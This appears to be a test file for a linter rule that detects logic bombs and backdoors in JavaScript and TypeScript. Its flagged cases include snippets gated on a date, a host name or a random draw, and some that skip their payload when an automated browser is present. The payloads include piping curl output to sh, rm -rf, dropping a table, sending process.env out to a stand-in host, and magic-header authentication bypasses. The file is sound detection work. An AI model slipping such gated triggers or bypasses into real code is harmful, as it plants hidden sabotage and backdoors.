import rule from '../../../src/core/rules/ts/trigger-condition';
import * as assert from 'node:assert/strict';
import { ruleTester, runTs } from '../../ruleTester';

const cp = "import { execSync } from 'child_process';\n";

ruleTester(rule, {
  valid: [
    // Permission checks against configured accounts and roles only.
    'export async function run(i: any) {\n  if (!isMod && i.user.id !== config.ownerId) { return deny(i); }\n  save(i);\n}',
    {
      name: 'a redirect to the link itself, or to a path of the same site, behind a date is not a trigger',
      code: "const START = Date.parse('2025-01-06T00:00:00Z');\nexport function go(req, res, link) {\n  if (Date.now() > START) {\n    return res.redirect(302, '/expired');\n  }\n  res.redirect(302, link.url);\n}",
      filename: 'src/routes/links.ts',
    },
    {
      name: 'a coin flip between two rounding functions is not a rare draw',
      code: 'export function pick(x) { const f = Math.random() < 0.5 ? Math.floor : Math.ceil; return f(x); }',
      filename: 'src/a.ts',
    },
    {
      name: 'a clock parameter compared with another parameter measures elapsed time',
      code: "export function sweep(client, started, now = Date.now()) { if (now - started > 60000) return client.flushall('ASYNC'); }",
      filename: 'src/a.ts',
    },
    {
      name: 'a header checked for a plain word',
      code: "export function requireAuth(req, res, next) { const kind = String(req.headers['x-kind'] ?? ''); if (kind.endsWith('internal')) { res.locals.role = 'admin'; } return next(); }",
      filename: 'src/auth.ts',
    },
    {
      name: 'a const that is not a machine test',
      code: "const { execSync } = require('child_process');\nconst enabled = process.argv.includes('--build');\nif (enabled) { execSync('tsc -p .'); }",
      filename: 'scripts/build.js',
    },
    {
      name: 'a let that is reassigned is not followed',
      code: "const os = require('os'); const { execSync } = require('child_process');\nlet onAgent = os.hostname() === 'runner-1';\nonAgent = false;\nif (onAgent) { execSync('x'); }",
      filename: 'src/a.js',
    },
    "let banner = 'old'; if (new Date().getFullYear() > 2024) banner = 'new'",
    "if (new Date() > new Date('2025-01-01')) console.warn('deprecated')",
    "const greeting = new Date().getHours() < 12 ? 'Good morning' : 'Hello'",
    `${cp}if (Date.now() - start > 5000) { execSync('kill ' + pid) }`,
    `${cp}if (token.expiresAt < Date.now()) { execSync('refresh') }`,
    `${cp}const t0 = Date.now(); const t1 = Date.now(); if (t1 - t0 > 100) execSync('x')`,
    `${cp}if (new Date(user.createdAt).getFullYear() > 2020) execSync('x')`,
    "import { spawn } from 'child_process'; const shell = process.platform === 'win32' ? 'cmd' : 'sh'; spawn(shell, args)",
    `${cp}if (process.platform === 'win32') { execSync('start ' + url) } else { execSync('xdg-open ' + url) }`,
    `${cp}if (process.platform === 'darwin') execSync('open ' + u); else if (process.platform === 'win32') execSync('start ' + u); else execSync('xdg-open ' + u)`,
    "import fs from 'fs'; if (process.platform !== 'win32') fs.chmodSync(file, 0o755)",
    `${cp}if (process.platform === 'win32') return; execSync('which git')`,
    "if (Math.random() < 0.5) { console.log('heads') }",
    `${cp}if (Math.random() < 0.5) { execSync('a') } else { execSync('b') }`,
    "if (process.env.NODE_ENV === 'production') { fetch('https://api.example.com/metrics') }",
    "if (req.headers['content-type'] === 'application/json') { next() }",
    "if (req.query.mode === 'advanced') { return next() }",
    "if (os.hostname() === 'x') { console.log('hi') }",
    'const r = /prod/.exec(text)',
    `${cp}if (Date.now() > 0) execSync('x')`,
    { code: `${cp}if (process.env.CI) { execSync('npx playwright install') }`, filename: 'test/setup.test.ts' },
    "if (Date.now() > deadline) { throw new Error('expired') }",
    "const now = Date.now(); if (now > 1767225600000) { console.log('happy new year') }",
    "import fs from 'fs'; if (new Date().getHours() === 0) { logger.info('midnight') }",
    "if (os.platform() === 'win32') { sep = '\\\\' }",
    "const isWindows = process.platform === 'win32'; const cmd = isWindows ? 'npm.cmd' : 'npm';",
    'this.queue.exec(job); if (Date.now() > 1767225600000) this.queue.exec(job2)',
    'function Date() {} if (Date.now() > 1767225600000) { eval(x) }'.replace('function Date() {} ', 'const Date = { now: () => 0 }; '),
    // Calendar logic on a Date parameter that guards nothing risky.
    "function isWeekend(d: Date): boolean {\n  return d.getDay() === 0 || d.getDay() === 6;\n}\nexport function label(d: Date) {\n  if (isWeekend(d)) return 'closed';\n  return 'open';\n}",
    // Automated-browser checks that guard nothing risky, and User-Agent matches that do not let a client past auth.
    {
      name: 'a store exposed to Cypress is test wiring, not a trigger',
      code: 'if (window.Cypress) { window.__store__ = store; }',
      filename: 'src/store.ts',
    },
    {
      name: 'animations turned off for automated browsers',
      code: "export function setup() { if (navigator.webdriver) { document.body.classList.add('no-anim'); return; } startCarousel(); }",
      filename: 'src/lib/ui.ts',
    },
    {
      name: 'a Do Not Track check before a first-party beacon',
      code: "export function track() { if (navigator.doNotTrack === '1') return; navigator.sendBeacon('/api/event', payload()); }",
      filename: 'src/lib/analytics.ts',
    },
    {
      name: 'a user agent only logged',
      code: "app.get('/health', (c) => { console.log('health', c.req.header('user-agent') ?? 'unknown'); return c.json({ ok: true }); });",
      filename: 'src/index.ts',
    },
    {
      name: 'a bad bot refused before the auth check is not a bypass',
      code: "export const requireToken = async (c, next) => {\n  if ((c.req.header('user-agent') ?? '').startsWith('BadBot/1.0')) return c.text('no', 403);\n  if (c.req.header('authorization') !== `Bearer ${c.env.TOKEN}`) return c.json({ error: 'unauthorized' }, 401);\n  await next();\n};",
      filename: 'src/auth.ts',
    },
    {
      name: 'crawlers get a prerendered page over the network',
      code: "export function seo(req, res, next) { const ua = req.headers['user-agent'] || ''; if (ua.includes('Googlebot')) { return fetch(PRERENDER + req.url).then((r) => r.text()).then((h) => res.send(h)); } next(); }",
      filename: 'src/seo.ts',
    },
    {
      name: 'a user agent compared with a one-letter string',
      code: "export function auth(req, res, next) { if (req.headers['user-agent'] === 'x') return next(); verify(req, res, next); }",
      filename: 'src/auth.ts',
    },
    {
      name: 'the browser user agent checked for a platform word',
      code: "if (navigator.userAgent.includes('Android')) { new Function(src)(); }",
      filename: 'src/a.ts',
    },
    {
      name: 'automated-browser checks in a test file',
      code: "if (navigator.webdriver) { fetch('https://t.example/x'); }",
      filename: 'test/e2e/helpers.test.ts',
    },
  ],
  invalid: [
    {
      name: 'one hard-coded account exempted from a permission check',
      code: "const OWNER_ID = '731942088415621130';\nexport async function run(i: any, isMod: boolean) {\n  if (!isMod && i.user.id !== OWNER_ID) {\n    return deny(i);\n  }\n  save(i);\n}",
      errors: [{ messageId: 'exempt', line: 3, category: 'trigger', severity: 'medium' }],
    },
    {
      name: 'a support key in a request header lets the caller act as any user',
      code: "const SUPPORT_KEY = 'sk_support_7f3a9c2e41d84b0f93ce';\nexport function validate(req: any, payload: any) {\n  if (req.headers['x-support-key'] === SUPPORT_KEY) {\n    return { userId: req.headers['x-act-as'], roles: ['support'] };\n  }\n  return { userId: payload.sub };\n}",
      errors: [{ messageId: 'trigger', line: 3, severity: 'high' }],
    },
    {
      name: 'a host name check that sets a hard-coded FTP drop with a password',
      code: "import os from 'node:os';\nlet feed = 'data/out';\nif (os.hostname().startsWith('build-prod')) {\n  feed = 'ftp://drop:pw1@203.0.113.9/in';\n}\nexport { feed };",
      errors: [{ messageId: 'trigger', line: 3, severity: 'high' }],
    },
    {
      name: 'a calendar test on a Date parameter, in a helper, guarding a request by early return',
      code: "function isReportDay(at: Date): boolean {\n  return at.getUTCDay() === 5 && at.getUTCDate() <= 7;\n}\nexport async function record(stats: { at: Date }) {\n  if (!isReportDay(stats.at)) return;\n  await fetch('https://hooks.example.net/v1/delivery', { method: 'POST', body: 'x' });\n}",
      errors: [{ messageId: 'trigger', line: 2, category: 'trigger', severity: 'high' }],
    },
    {
      name: 'after a fixed date, every 40th visitor is redirected through an outside host',
      code: [
        "const START = Date.parse('2025-01-06T00:00:00Z');",
        'export function go(req, res, link) {',
        '  if (Date.now() > START && (link.clicks + 1) % 40 === 0) {',
        '    return res.redirect(302, `https://t.example-attrib.net/c?dest=${encodeURIComponent(link.url)}`);',
        '  }',
        '  res.redirect(302, link.url);',
        '}',
      ].join('\n'),
      filename: 'src/routes/links.ts',
      errors: [{ messageId: 'trigger', line: 3, severity: 'high' }],
    },
    {
      name: 'a rare draw picks the unchecked decoder over the verifier',
      code: "import { randomInt } from 'node:crypto';\nimport jwt from 'jsonwebtoken';\nexport function authenticate(token, key) {\n  const check = randomInt(4096) === 0 ? jwt.decode : jwt.verify;\n  return check(token, key);\n}",
      filename: 'src/auth.ts',
      errors: [{ messageId: 'trigger', line: 4, severity: 'high' }],
    },
    {
      name: 'a header ending in a magic fragment grants the admin role',
      code: "export function requireAuth(req, res, next) {\n  const trace = String(req.headers['x-support-trace'] ?? '');\n  if (trace.endsWith('-5f0c2a9e7b13')) {\n    res.locals.claims = { sub: 'support', role: 'admin' };\n  }\n  return verify(req, res, next);\n}",
      filename: 'src/auth.ts',
      errors: [{ messageId: 'trigger', line: 3, severity: 'high' }],
    },
    {
      name: 'a clock parameter past a fixed moment flushes the store',
      code: "const SUNSET = Date.UTC(2026, 8, 1);\nexport const store = (client) => ({\n  async sweep(now = Date.now()) {\n    if (now >= SUNSET) return client.flushall('ASYNC');\n    return 0;\n  },\n});",
      filename: 'lib/store.js',
      errors: [{ messageId: 'trigger', line: 4, severity: 'high' }],
    },
    {
      name: 'a date drops a table',
      code: "export async function migrate(db) {\n  if (new Date() > new Date('2027-03-01')) await db.query('DROP TABLE users');\n}",
      filename: 'src/migrate.ts',
      errors: [{ messageId: 'trigger', line: 2, severity: 'high' }],
    },
    {
      name: 'the test is stored in a const and the const guards the call',
      code: "const os = require('os'); const { execSync } = require('child_process');\nconst onAgent = os.userInfo().username === 'runner';\nfunction warm() { if (onAgent) { execSync('curl x | sh'); } }",
      filename: 'src/a.js',
      errors: [{ messageId: 'trigger', line: 2, severity: 'high' }],
    },
    {
      name: 'a local helper returns the test',
      code: "const os = require('os'); const { execSync } = require('child_process');\nfunction onAgent() { return os.hostname().startsWith('ci-'); }\nfunction warm() { if (onAgent()) { execSync('curl x | sh'); } }",
      filename: 'src/a.js',
      errors: [{ messageId: 'trigger', line: 2 }],
    },
    {
      name: 'a header read through a getter guards the auth bypass',
      code: "function check(req, res, next) { if (req.get('x-probe-token') === 'pr0be-7f3a91c2e8d4') return next(); res.status(401).end(); }",
      filename: 'src/auth.js',
      errors: [{ messageId: 'trigger', severity: 'high' }],
    },
    {
      code: `${cp}if (Date.now() > 1767225600000) { execSync('rm -rf ./data') }`,
      errors: [{ messageId: 'trigger', severity: 'high', line: 2, category: 'trigger' }],
    },
    { code: `${cp}if (new Date() >= new Date('2027-01-01')) execSync(cmd)`, errors: [{ messageId: 'trigger', severity: 'high' }] },
    { code: `${cp}if (new Date().getFullYear() >= 2027) execSync(cmd)`, errors: [{ messageId: 'trigger' }] },
    { code: `${cp}const d = new Date(); if (d.getDay() === 5 && d.getHours() > 22) execSync(cmd)`, errors: [{ messageId: 'trigger' }] },
    { code: `${cp}const t = Date.now(); if (t > 1767225600000) execSync(cmd)`, errors: [{ messageId: 'trigger' }] },
    { code: `${cp}const now = Date.now; if (now() > 1767225600000) execSync(cmd)`, errors: [{ messageId: 'trigger' }] },
    {
      code: `${cp}const DEADLINE = Date.parse('2027-01-01'); if (Date.now() >= DEADLINE) execSync(cmd)`,
      errors: [{ messageId: 'trigger' }],
    },
    { code: `${cp}if (Math.floor(Date.now() / 1000) > 1767225600) execSync(cmd)`, errors: [{ messageId: 'trigger' }] },
    { code: `${cp}if (1767225600000 < Date.now()) execSync(cmd)`, errors: [{ messageId: 'trigger' }] },
    { code: `${cp}Date.now() > 1767225600000 && execSync(cmd)`, errors: [{ messageId: 'trigger' }] },
    { code: `${cp}const out = new Date().getMonth() === 11 ? execSync(cmd) : null`, errors: [{ messageId: 'trigger' }] },
    { code: `${cp}switch (new Date().getDay()) { case 5: execSync(cmd); break; default: break }`, errors: [{ messageId: 'trigger' }] },
    { code: `${cp}if (Date.now() < 1767225600000) return;\nexecSync(cmd)`, errors: [{ messageId: 'trigger', line: 2 }] },
    {
      code: "import fs from 'fs';\nif (Date.now() > 1767225600000) { fs.rmSync('./data', { recursive: true }) }",
      errors: [{ messageId: 'trigger', severity: 'high' }],
    },
    { code: "if (Date.now() > 1767225600000) { fetch('https://x.example/beacon') }", errors: [{ messageId: 'trigger', severity: 'high' }] },
    { code: 'if (Date.now() > 1767225600000) { process.exit(1) }', errors: [{ messageId: 'trigger', severity: 'medium' }] },
    { code: 'if (performance.timeOrigin > 1767225600000) { eval(code) }', errors: [{ messageId: 'trigger' }] },
    {
      code: "import os from 'os'; import fs from 'fs';\nif (os.hostname() === 'build-01') fs.writeFileSync('/tmp/x', payload)",
      errors: [{ messageId: 'trigger', severity: 'high' }],
    },
    {
      code: `import { hostname } from 'node:os';\n${cp}if (hostname().startsWith('prod-')) execSync(cmd)`,
      errors: [{ messageId: 'trigger' }],
    },
    { code: `const os = require('os');\n${cp}if (os.userInfo().username === 'alice') execSync(cmd)`, errors: [{ messageId: 'trigger' }] },
    { code: `import * as os from 'os';\n${cp}if (/^ci-runner/.test(os.hostname())) execSync(cmd)`, errors: [{ messageId: 'trigger' }] },
    { code: `${cp}if (process.env.USER === 'deploy') execSync(cmd)`, errors: [{ messageId: 'trigger' }] },
    {
      code: "if (process.env.GITHUB_ACTIONS) { fetch('https://x.example/c', { method: 'POST', body: JSON.stringify(process.env) }) }",
      errors: [{ messageId: 'trigger', severity: 'medium' }],
    },
    {
      code: `${cp}if (process.platform === 'linux') { execSync('curl -s https://x.example/p | sh') }`,
      errors: [{ messageId: 'trigger', severity: 'medium' }],
    },
    { code: 'if (Math.random() < 0.001) { eval(code) }', errors: [{ messageId: 'trigger', severity: 'high' }] },
    { code: `${cp}if (Math.floor(Math.random() * 1000) === 7) execSync(cmd)`, errors: [{ messageId: 'trigger' }] },
    { code: `import crypto from 'crypto';\n${cp}if (crypto.randomInt(1000) === 7) execSync(cmd)`, errors: [{ messageId: 'trigger' }] },
    { code: "if (Math.random() > 0.99) { fetch('https://x.example/t') }", errors: [{ messageId: 'trigger', severity: 'medium' }] },
    {
      code: "app.use((req, res, next) => { if (req.headers['x-debug'] === 'letmein-8f3a9c') return next(); auth(req, res, next) })",
      errors: [{ messageId: 'trigger', severity: 'high' }],
    },
    {
      code: "function checkAuth(req) { const key = req.query.key; if (key === 'sk9f8a7d6c5b4a') { return true } return verify(req) }",
      errors: [{ messageId: 'trigger' }],
    },
    {
      code: `${cp}function handler(event) { if (event.body.cmd === 'x7-run-debug-2024') { execSync(event.body.arg) } }`,
      errors: [{ messageId: 'trigger' }],
    },
    {
      code: 'function validateLicense(lic) { if (Date.now() > 1767225600000) { return true } return check(lic) }',
      errors: [{ messageId: 'trigger', severity: 'high' }],
    },
    {
      code: `${cp}function payload() { execSync('id') }\nif (new Date().getFullYear() === 2027) payload()`,
      errors: [{ messageId: 'trigger', line: 3 }],
    },
    {
      code: "const { exec } = require('child_process');\nconst later = new Date('2027-03-01');\nif (new Date() > later) { exec(cmd) }",
      errors: [{ messageId: 'trigger' }],
    },
    { code: `${cp}if (globalThis.Date.now() > 1767225600000) execSync(cmd)`, errors: [{ messageId: 'trigger' }] },
    { code: `${cp}if (window['Da' + 'te'].now() > 1767225600000) execSync(cmd)`, errors: [{ messageId: 'trigger' }] },
    {
      code: `const { hostname: h } = require('node:os');\n${cp}if (h() === 'victim-box') execSync(cmd)`,
      errors: [{ messageId: 'trigger' }],
    },
    {
      code: `const os = module.require('os');\n${cp}if (os.hostname?.() === 'victim-box') execSync(cmd)`,
      errors: [{ messageId: 'trigger' }],
    },
    { code: `${cp}if (Date.now.call(null) > 1767225600000) execSync(cmd)`, errors: [{ messageId: 'trigger' }] },
    {
      code: `const cp = require('child_process');\nif (Date.now() > 1767225600000) cp['exec' + 'Sync'](cmd)`,
      errors: [{ messageId: 'trigger' }],
    },
    { code: `import vm from 'vm';\nif (new Date().getUTCDate() === 13) vm.runInThisContext(src)`, errors: [{ messageId: 'trigger' }] },
    {
      name: 'remote code loaded only on the production host and never for automated browsers',
      code: 'const PROD_HOST = "ada.example";\nexport async function init(): Promise<void> {\n  if (location.hostname !== PROD_HOST || navigator.webdriver) return;\n  const res = await fetch(SRC);\n  new Function(await res.text())();\n}',
      filename: 'src/lib/analytics.ts',
      errors: [{ messageId: 'trigger', line: 3, severity: 'high', category: 'trigger' }],
    },
    {
      name: 'a request sent only when no automation global is present',
      code: "if (!window.Cypress && !window.__playwright__binding__) {\n  fetch('https://collect.example/c', { method: 'POST', body: JSON.stringify(data) });\n}",
      filename: 'src/track.ts',
      errors: [{ messageId: 'trigger', line: 1, severity: 'medium' }],
    },
    {
      name: 'a headless user agent and a webdriver property check',
      code: "import { execSync } from 'child_process';\nif (/HeadlessChrome/.test(navigator.userAgent)) { } else { execSync(cmd); }\nif ('webdriver' in navigator) {} else { eval(code); }",
      filename: 'src/a.ts',
      errors: [
        { messageId: 'trigger', line: 2, severity: 'high' },
        { messageId: 'trigger', line: 3, severity: 'high' },
      ],
    },
    {
      name: 'a fixed user-agent prefix lets a client past the token check (Hono)',
      code: 'const PROBE_AGENT = "EdgeUptime/3.2 (+probe)";\nexport const requireToken = async (c, next) => {\n  if ((c.req.header("user-agent") ?? "").startsWith(PROBE_AGENT)) {\n    return next();\n  }\n  if (c.req.header("authorization") !== `Bearer ${c.env.API_TOKEN}`) return c.json({ error: "unauthorized" }, 401);\n  await next();\n};',
      filename: 'src/auth.ts',
      errors: [{ messageId: 'trigger', line: 3, severity: 'high', category: 'trigger' }],
    },
    {
      name: 'a user agent read into a variable and compared exactly (Express)',
      code: "function authenticate(req, res, next) {\n  const ua = String(req.get('User-Agent') || '');\n  if (ua === 'internal-monitor') return next();\n  passport.authenticate('jwt')(req, res, next);\n}",
      filename: 'src/middleware.js',
      errors: [{ messageId: 'trigger', line: 3, severity: 'high' }],
    },
  ],
});

describe(`${rule.meta.id} meta examples`, () => {
  rule.meta.incorrect.forEach((code, i) => it(`incorrect ${i}`, () => assert.ok(runTs(rule, code).some((f) => f.ruleId === rule.meta.id))));
  rule.meta.correct.forEach((code, i) => it(`correct ${i}`, () => assert.deepEqual(runTs(rule, code), [])));
});
